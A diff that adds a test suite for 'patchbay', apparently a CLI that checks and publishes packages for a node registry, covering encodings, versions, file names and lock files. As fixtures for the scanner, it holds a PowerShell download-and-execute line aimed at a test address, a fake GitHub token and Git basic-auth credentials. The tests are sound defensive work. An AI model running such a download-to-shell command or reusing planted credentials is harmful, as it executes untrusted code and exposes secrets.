@@ -1,0 +1,295 @@
+// Inputs from life that a command once took for something else. Each is named after where people met it.
+import assert from 'node:assert/strict';
+import { readFile } from 'node:fs/promises';
+import { join } from 'node:path';
+import { after, suite as plainSuite, test } from 'node:test';
+import { makePublisher, publishActive, zip } from '../../server/test/support/build.ts';
+import { startServer } from '../../server/test/support/start-server.ts';
+import { suite } from '../../server/test/support/variants.ts';
+import { makeFolder, writeFiles } from './support/make-folder.ts';
+import { appNodeSource } from './support/make-project.ts';
+import { type Cli, openCli } from './support/open-cli.ts';
+
+/** The command needs no registry. */
+const url = 'http://127.0.0.1:9';
+
+type Files = Readonly<Record<string, string | Uint8Array>>;
+
+const toml = (more = '', name = 'case', version = 'version = "1.0.0"'): string =>
+  `[project]\nname = ${JSON.stringify(name)}\n${version}\n${more}\n[tool.comfy]\nPublisherId = "mara"\n`;
+const project = (files: Files, metadata = toml()): Files => ({
+  'pyproject.toml': metadata,
+  '__init__.py': appNodeSource,
+  ...files,
+});
+const utf16 = (text: string): Buffer => Buffer.from(`\ufeff${text}`, 'utf16le');
+
+interface Case {
+  files: Files;
+  code: number;
+  says: RegExp;
+}
+
+const token = ['ghp', 'x7Qm2Vn9Rt4Kb8Zc1Ld6Wf3Hs5Jg0PyUaEiT'].join('_');
+
+const checked: Readonly<Record<string, Case>> = {
+  'requirements in UTF-16, as PowerShell writes them, are checked': {
+    files: project({ 'requirements.txt': utf16('--index-url http://192.0.2.7/simple\r\nnumpy\r\n') }),
+    code: 1,
+    says: /requirements\.txt:1.*requirement-from-address/,
+  },
+  'requirements in UTF-32, which pip reads, cannot be checked': {
+    files: project({ 'requirements.txt': Buffer.from([0xff, 0xfe, 0, 0, 0x61, 0, 0, 0]) }),
+    code: 1,
+    says: /cannot be checked to its end/,
+  },
+  'a script in UTF-16 is checked': {
+    files: project({ 'install.ps1': utf16('iwr http://192.0.2.7/x.ps1 | iex') }),
+    code: 1,
+    says: /install\.ps1:1.*download-to-shell/,
+  },
+  'any text in UTF-16 is searched for secrets': {
+    files: project({ 'notes.txt': utf16(`token = ${token}`) }),
+    code: 1,
+    says: /notes\.txt:1.*github-token/,
+  },
+  'credentials in the settings of Git': {
+    files: project({
+      'dot.txt': '[http]\n\textraheader = AUTHORIZATION: basic eC1hY2Nlc3MtdG9rZW46cXdlcnR5\n',
+    }),
+    code: 1,
+    says: /dot\.txt:2.*git-credentials/,
+  },
+  'names that Windows cannot hold': {
+    files: project({ 'web/con.js': '', 'aux/x.py': '', 'web/a?b.js': '' }),
+    code: 0,
+    says: /aux\/x\.py.*no-name-for-windows[^]*web\/a\?b\.js.*no-name[^]*web\/con\.js.*no-name/,
+  },
+  'an import of a module that is not there': {
+    files: project({ '__init__.py': 'from .missing import x\nNODE_CLASS_MAPPINGS = {"A": x}\n' }),
+    code: 0,
+    says: /warning {2}__init__\.py:1 {2}imports \.missing, which is not in the package/,
+  },
+  'a submodule that was not checked out': {
+    files: project({ '.gitmodules': '[submodule "extern"]\n\tpath = extern/sub\n\turl = ../sub\n' }),
+    code: 0,
+    says: /extern\/sub is a submodule of Git, and the package holds nothing of it/,
+  },
+  'no app-node': {
+    files: project({ '__init__.py': 'x = 1\n' }),
+    code: 0,
+    says: /No app-node was found/,
+  },
+  'Python 2': {
+    files: project({ '__init__.py': `${appNodeSource}print "hi"\n` }),
+    code: 0,
+    says: /__init__\.py:12 {2}is not valid Python/,
+  },
+  'an indentation that depends on the width of a tab': {
+    files: project({ '__init__.py': `${appNodeSource}if 1:\n        x = 1\n\ty = 1\n` }),
+    code: 0,
+    says: /__init__\.py:14 {2}is not valid Python/,
+  },
+  'a version file with a mark and Windows line ends': {
+    files: project(
+      { 'about.py': '\ufeff__version__ = "2.3.4"\r\n' },
+      toml('dynamic = ["version"]', 'case', '').replace(
+        '[tool.comfy]',
+        '[tool.comfy.version]\npath = "about.py"\n[tool.comfy]',
+      ),
+    ),
+    code: 0,
+    says: /case 2\.3\.4: The checks pass/,
+  },
+  'a version file that is a folder': {
+    files: project(
+      { 'pkg/__init__.py': '' },
+      toml('dynamic = ["version"]', 'case', '').replace(
+        '[tool.comfy]',
+        '[tool.comfy.version]\npath = "pkg"\n[tool.comfy]',
+      ),
+    ),
+    code: 1,
+    says: /pkg is a folder\. Name a file in it/,
+  },
+  'a dynamic version of another tool': {
+    files: project(
+      {},
+      `${toml('dynamic = ["version"]', 'case', '')}\n[tool.hatch.version]\npath = "about.py"\n`,
+    ),
+    code: 1,
+    says: /The version is dynamic\. Only the file that path in \[tool\.comfy\.version\] names is read/,
+  },
+  'metadata in latin-1': {
+    files: project({ 'pyproject.toml': Buffer.from(toml('description = "caf\xe9"'), 'latin1') }),
+    code: 1,
+    says: /pyproject\.toml is not UTF-8\. Save it as UTF-8/,
+  },
+  'metadata in UTF-16': {
+    files: project({ 'pyproject.toml': utf16(toml()) }),
+    code: 1,
+    says: /pyproject\.toml is not UTF-8/,
+  },
+  'a version of PEP 440': {
+    files: project({}, toml('', 'case', 'version = "1.0.0rc1"')),
+    code: 1,
+    says: /project\.version: "1\.0\.0rc1" cannot be published\. Write a version like 1\.2\.3/,
+  },
+  'a version with a leading zero': {
+    files: project({}, toml('', 'case', 'version = "1.4.03"')),
+    code: 1,
+    says: /"1\.4\.03" cannot be published/,
+  },
+  'an id that is none': { files: project({}, toml('', 'my nodes!')), code: 1, says: /"my nodes!" is no id/ },
+  'too many dependencies': {
+    files: project({}, toml(`dependencies = [${'"p",'.repeat(1_001)}]`)),
+    code: 1,
+    says: /project\.dependencies must be a list of at most 1000/,
+  },
+  'an icon that is a path, and a repository for SSH': {
+    files: project({}, `${toml('urls.Repository = "git@example.org:mara/x.git"')}Icon = "icon.png"\n`),
+    code: 1,
+    says: /the icon must be a URL[^]*project\.urls\.Repository must be a URL/,
+  },
+  'a long description': {
+    files: project({}, toml(`description = "${'d'.repeat(10_001)}"`)),
+    code: 1,
+    says: /project\.description must be at most 10000 characters long/,
+  },
+};
+
+plainSuite('patchbay check, of what people send', () => {
+  for (const [name, { files, code, says }] of Object.entries(checked)) {
+    test(name, async (t) => {
+      const cli = await openCli(t, { url });
+      const folder = await makeFolder(t, files);
+      const outcome = await cli.run(['check', '--no-remote', folder]);
+      assert.match(outcome.stdout + outcome.stderr, says);
+      assert.equal(outcome.code, code, outcome.stdout + outcome.stderr);
+    });
+  }
+
+  test('the archive that a forge makes of a repository has nothing at its root', async (t) => {
+    const cli = await openCli(t, { url });
+    const files = Object.entries(project({})).map(([name, content]) => [
+      `case-main/${name}`,
+      String(content),
+    ]);
+    const zipped = await zip({ ...Object.fromEntries(files), 'pyproject.toml': toml() });
+    await writeFiles(cli.cwd, { 'mixed.zip': zipped });
+    assert.equal((await cli.run(['check', '--no-remote', 'mixed.zip'])).code, 0, 'a file beside the folder');
+  });
+});
+
+plainSuite('patchbay init, of the requirements that people have', () => {
+  const init = async (t: Parameters<typeof openCli>[0], requirements: string | Uint8Array) => {
+    const cli = await openCli(t, { url });
+    const folder = await makeFolder(t, { 'requirements.txt': requirements });
+    const { code, result } = await cli.json(['init', folder, '--id=case', '--publisher=mara']);
+    assert.equal(code, 0, JSON.stringify(result));
+    const added: { key: string; value: string[] }[] = result.data.added;
+    await readFile(join(folder, 'pyproject.toml'), 'utf8');
+    return {
+      kept: added.find(({ key }) => key === 'project.dependencies')?.value,
+      leftOut: result.data.left_out,
+    };
+  };
+
+  test('in UTF-16, with options, paths, addresses and hashes', async (t) => {
+    assert.deepEqual(await init(t, utf16('numpy>=1.24\r\npillow\r\n')), {
+      kept: ['numpy>=1.24', 'pillow'],
+      leftOut: [],
+    });
+    const lines = [
+      '-r more.txt',
+      '-e ./vendored',
+      'pillow==10.3.0 --hash=sha256:aa \\\n    --hash=sha256:bb',
+      'paint @ git+https://git.example.org/mara/paint.git#subdirectory=py',
+      'https://files.example.org/ink-1.0-py3-none-any.whl',
+      './wheels/local-1.0-py3-none-any.whl',
+      'onnxruntime; sys_platform != "darwin"  # not there',
+      'transformers[torch,sentencepiece] >= 4.40 , < 5',
+      'bar=1.0',
+      'baz 1.0',
+    ];
+    assert.deepEqual(await init(t, lines.join('\n')), {
+      kept: [
+        'pillow==10.3.0',
+        'paint @ git+https://git.example.org/mara/paint.git#subdirectory=py',
+        'onnxruntime; sys_platform != "darwin"',
+        'transformers[torch,sentencepiece] >= 4.40 , < 5',
+      ],
+      leftOut: [
+        '-r more.txt',
+        '-e ./vendored',
+        'https://files.example.org/ink-1.0-py3-none-any.whl',
+        './wheels/local-1.0-py3-none-any.whl',
+        'bar=1.0',
+        'baz 1.0',
+      ],
+    });
+  });
+});
+
+suite('commands with what people send', async () => {
+  const server = await startServer({ after });
+  const mara = await makePublisher(server, 'mara');
+  const open = (t: Parameters<typeof openCli>[0]): Promise<Cli> => openCli(t, server);
+
+  test('a token with a line break publishes as it identifies', async (t) => {
+    const cli = await openCli(t, { url: server.url, token: `  ${mara.token}\n` });
+    await writeFiles(join(cli.cwd, 'case'), project({}, toml('', 'with-a-break')));
+    assert.equal((await cli.run(['whoami'])).code, 0);
+    const { code, stdout, stderr } = await cli.run(['publish', 'case']);
+    assert.equal(code, 0, stdout + stderr);
+  });
+
+  test('install <node>@latest installs the latest version', async (t) => {
+    await publishActive(server, mara, 'latest-of-two', '1.0.0');
+    await publishActive(server, mara, 'latest-of-two', '1.1.0');
+    const cli = await open(t);
+    const { result } = await cli.json(['install', 'latest-of-two@latest', '--into', 'nodes']);
+    assert.deepEqual(result.data.nodes, [{ node: 'latest-of-two', version: '1.1.0', status: 'installed' }]);
+    assert.equal((await cli.json(['outdated', '--into', 'nodes'])).code, 0);
+    assert.equal((await cli.json(['show', 'latest-of-two@latest'])).result.data.version.version, '1.1.0');
+  });
+
+  test('a lock file with a mark, an empty one, and one in a merge conflict', async (t) => {
+    await publishActive(server, mara, 'locked', '1.0.0');
+    const cli = await open(t);
+    await cli.json(['install', 'locked', '--into', 'nodes']);
+    const file = join('nodes', 'patchbay.lock');
+    const lock = await readFile(join(cli.cwd, file), 'utf8');
+    const verify = async (text: string) => {
+      await writeFiles(cli.cwd, { [file]: text });
+      return (await cli.json(['verify', '--into', 'nodes'])).result;
+    };
+    assert.equal((await verify(`\ufeff${lock}`)).ok, true);
+    assert.match((await verify('')).error.message, /is empty/);
+    assert.match((await verify(`<<<<<<< HEAD\n${lock}`)).error.message, /merge conflict/);
+    assert.match((await verify('lock: 1')).error.message, /is no JSON/);
+  });
+
+  test('a workflow names the node of an app-node that only exists in the browser', async (t) => {
+    await publishActive(server, mara, 'wire-pack', '1.0.0');
+    const cli = await open(t);
+    const node = (type: string, properties: object) => ({ type, properties });
+    const workflow = {
+      nodes: [
+        node('SetWire', { cnr_id: 'Wire-Pack', ver: '1.0.0' }),
+        node('GetWire', { aux_id: 'mara/wire-pack' }),
+        node('NobodyHas', { cnr_id: 'not-there' }),
+      ],
+    };
+    await writeFiles(cli.cwd, { 'workflow.json': utf16(JSON.stringify({ workflow })) });
+    const { result } = await cli.json(['resolve', 'workflow.json']);
+    assert.deepEqual(result.data.unknown, ['NobodyHas']);
+    assert.deepEqual(
+      result.data.nodes.map(({ node: id, app_nodes }: { node: string; app_nodes: { name: string }[] }) => [
+        id,
+        app_nodes.map(({ name }) => name),
+      ]),
+      [['wire-pack', ['SetWire', 'GetWire']]],
+    );
+  });
+});
